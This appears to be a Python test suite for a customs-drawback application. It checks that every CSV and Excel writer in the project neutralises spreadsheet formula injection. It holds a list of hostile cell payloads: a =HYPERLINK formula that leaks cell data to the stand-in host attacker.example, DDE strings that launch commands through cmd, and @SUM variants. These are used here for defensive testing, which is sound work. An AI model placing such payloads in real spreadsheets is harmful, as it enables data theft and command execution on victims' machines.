"""No text we write to a CSV file or a workbook becomes a formula (OWASP CSV injection).

`test_every_writer_is_known` finds every place in the project that writes CSV or XLSX; each must be either
checked below with hostile text from an uploaded file, or listed as exempt with the reason. A new writer
that is neither fails, so nothing gets added without its output being checked.
"""

import csv
import io
import re
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import load_workbook

from drawback.lib.entry_numbers import make
from drawback.lib.spreadsheet import FORMULA_TRIGGERS, csv_cell, starts_like_formula

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Every module that writes CSV or XLSX, and the test below that checks its output.
WRITERS = {
    "imports/services.py": "test_rejects_csv_neutralises_every_cell",
    "claims/filing/workbook.py": "test_claim_workbook_keeps_hostile_text_as_text",
    "claims/engine/csvio.py": "test_designate_refuses_an_export_ref_that_would_be_a_formula",
    "dashboards/report.py": "test_dashboard_workbook_keeps_hostile_text_as_text",
    "claims/management/commands/designate_types.py": "test_designate_types_keeps_hostile_text_as_text",
    "claims/cape/services.py": "test_cape_declaration_keeps_hostile_text_as_text",
}
EXEMPT = {
    # The demo's own input files, generated from fixed word lists for seed_demo to load: no outside text.
    "dashboards/demo.py": "writes generated demo input, read back by our own ingest",
    # Generated benchmark input: numbers and fixed words only.
    "imports/management/commands/bench_ingest.py": "writes generated benchmark input",
}
WRITES = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\.to_csv\(|\.to_excel\(|xlsxwriter")


def test_every_writer_is_known():
    files = subprocess.run(
        ["git", "ls-files", "*.py"], cwd=ROOT, capture_output=True, text=True, check=True
    ).stdout.split()
    writing = {
        name
        for name in files
        if not name.startswith(("tests/", ".")) and "/migrations/" not in name
        if WRITES.search((ROOT / name).read_text(encoding="utf-8"))
    }
    assert writing - set(WRITERS) - set(EXEMPT) == set(), "check these writers here (or exempt them)"
    assert set(WRITERS) | set(EXEMPT) <= writing, "listed writers that no longer write"
    for test in WRITERS.values():
        assert test in globals()


def test_the_helper_follows_owasp():
    for text in HOSTILE:
        assert csv_cell(text) == "'" + text
    assert csv_cell("Cotton shirts") == "Cotton shirts"
    assert csv_cell("-12.50") == "-12.50" and csv_cell("+3") == "+3"  # plain numbers are not formulas
    assert csv_cell(Decimal("-1")) == Decimal("-1")
    assert all(starts_like_formula(t + "x") for t in FORMULA_TRIGGERS)


def assert_no_formula_in_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not starts_like_formula(cell), cell
    return rows


@pytest.mark.django_db
def test_rejects_csv_neutralises_every_cell(client_a, settings, tmp_path):
    from imports.services import upload_create, upload_process, upload_rejects_csv

    settings.MEDIA_ROOT = tmp_path
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(
        ["entry_number", "line_number", "import_date", "hts", "quantity", "uom", "entered_value", "duty"]
        + ["description", HOSTILE[0]]
    )
    for n, text in enumerate(HOSTILE, start=1):
        writer.writerow(
            [make("AAA", 1234567), n, "2024-03-01", text, "5", "DOZ", "500.00", "82.50", text, text]
        )
    upload = upload_create(
        client=client_a,
        kind="imports",
        file=SimpleUploadedFile("hostile.csv", out.getvalue().encode()),
        user=None,
        queue=False,
    )
    upload_process(upload_id=upload.pk)
    rows = assert_no_formula_in_csv("".join(upload_rejects_csv(upload=upload)))
    assert len(rows) == len(HOSTILE) + 1
    # The text is all there, behind its apostrophe.
    column = rows[0].index("'" + HOSTILE[0])
    assert all(row[column] == "'" + text for row, text in zip(rows[1:], HOSTILE, strict=True))


@pytest.mark.django_db
def test_claim_workbook_keeps_hostile_text_as_text(client_a, analyst, settings, tmp_path):
    from claims.filing import claim_package_build, claim_package_documents
    from claims.models import Claim
    from exports.models import Export
    from imports.models import ImportLine
    from tests.claims.filing_builders import set_status, unused_substitution_claim

    settings.MEDIA_ROOT = tmp_path
    claim = set_status(unused_substitution_claim(client_a, analyst), Claim.Status.READY_TO_FILE)
    exports = Export.objects.filter(designations__claim=claim).distinct()
    exports.update(description=HOSTILE[0], exporter_name="@SUM(1+1)\x07")
    ImportLine.objects.filter(designations__claim=claim).update(description=HOSTILE[1])
    claim_package_build(claim=claim)
    with claim_package_documents(claim=claim)["workbook"].file.open("rb") as handle:
        book = load_workbook(io.BytesIO(handle.read()))
    seen = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and starts_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.add(cell.value)
    # The descriptions are kept as written, as text; the control character is dropped.
    assert {HOSTILE[0], HOSTILE[1], "@SUM(1+1)"} <= seen


def test_designate_refuses_an_export_ref_that_would_be_a_formula(tmp_path):
    """designations.csv is a fixed contract that repeats export_ref as given (data-contract.md): altering it
    there would break the join with exports.csv, so such an identifier is refused on the way in (no ITN,
    reference or bill of lading starts like a formula), and the rest of the file is numbers and validated
    entry numbers."""
    fixtures = ROOT / "tests" / "fixtures"
    exports = (fixtures / "exports.csv").read_text().splitlines()
    header, first = exports[0], exports[1].split(",")
    ref_at = header.split(",").index("export_ref")
    first[ref_at] = '=HYPERLINK("http://attacker.example")'
    hostile = tmp_path / "exports.csv"
    hostile.write_text("\n".join([header, ",".join(first), *exports[2:]]) + "\n")
    out, err = tmp_path / "designations.csv", io.StringIO()
    with pytest.raises(CommandError):
        call_command(
            "designate",
            imports=str(fixtures / "imports.csv"),
            exports=str(hostile),
            tariff=str(fixtures / "hts_sample.csv"),
            filing_date="2026-11-26",
            out=str(out),
            stdout=io.StringIO(),
            stderr=err,
        )
    assert not out.exists() and "starts like a spreadsheet formula" in err.getvalue()
    # A clean run writes no cell that could be a formula.
    call_command(
        "designate",
        imports=str(fixtures / "imports.csv"),
        exports=str(fixtures / "exports.csv"),
        tariff=str(fixtures / "hts_sample.csv"),
        filing_date="2026-11-26",
        out=str(out),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    assert len(assert_no_formula_in_csv(out.read_text())) > 1


@pytest.mark.django_db
def test_dashboard_workbook_keeps_hostile_text_as_text(client_a):
    """The client's dashboard in Excel: references typed on applications are kept as typed, never run."""
    from dashboards.figures import client_dashboard
    from dashboards.report import dashboard_xlsx
    from tests.factories import PrivilegeFactory

    for text in HOSTILE:
        PrivilegeFactory(client=client_a, reference=text[:60])
    book = load_workbook(io.BytesIO(dashboard_xlsx(client_dashboard(client=client_a))))
    references = [row[1] for row in book["Applications and rulings"].iter_rows(min_row=2)]
    # Every one kept as typed (XML reads a carriage return back as a line feed), as text, quote-prefixed.
    assert sorted(c.value.replace("\n", "\r") for c in references) == sorted(t[:60] for t in HOSTILE)
    assert all(c.data_type == "s" and c.quotePrefix for c in references)


@pytest.mark.django_db
def test_designate_types_keeps_hostile_text_as_text(client_a, settings, tmp_path):
    from tests.manufacturing.helpers import SAMPLES, load

    settings.MEDIA_ROOT = tmp_path
    load("hts", ROOT / "tests" / "fixtures" / "hts_sample.csv", None)
    load("imports", SAMPLES / "imports.csv", client_a)
    hostile = [t for t in HOSTILE if len(t.strip()) <= 60 and t == t.strip()]
    exports = tmp_path / "exports.csv"
    with open(exports, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            ["export_ref", "export_date", "hts", "quantity", "uom", "value", "destination"]
            + ["entry_number", "line_number"]
        )
        for n, text in enumerate(hostile):
            writer.writerow(
                [text, f"2025-0{n + 1}-15", "8516604060", "1", "NO", "300.00", "DE"] + ["M4K-4100002-3", "2"]
            )
    assert load("exports", exports, client_a).loaded
    out, choices = tmp_path / "types.csv", tmp_path / "choices.csv"
    call_command(
        "designate_types",
        "--client",
        "acme",
        "--filing-date",
        "2026-12-01",
        "--out",
        str(out),
        "--choices",
        str(choices),
        stdout=io.StringIO(),
    )
    for path in (out, choices):
        rows = assert_no_formula_in_csv(path.read_text(encoding="utf-8"))
        assert {row[0] for row in rows[1:]} == {"'" + text for text in hostile}


def test_cape_declaration_keeps_hostile_text_as_text():
    """Entry numbers are checked on load, but the declaration writer does not rely on it."""
    from claims.cape.services import declaration_csv

    rows = assert_no_formula_in_csv(declaration_csv(HOSTILE))
    assert rows[0] == ["Entry Number"]
    assert len(rows) == len(HOSTILE) + 1
    assert all(row[0].startswith("'") for row in rows[1:])
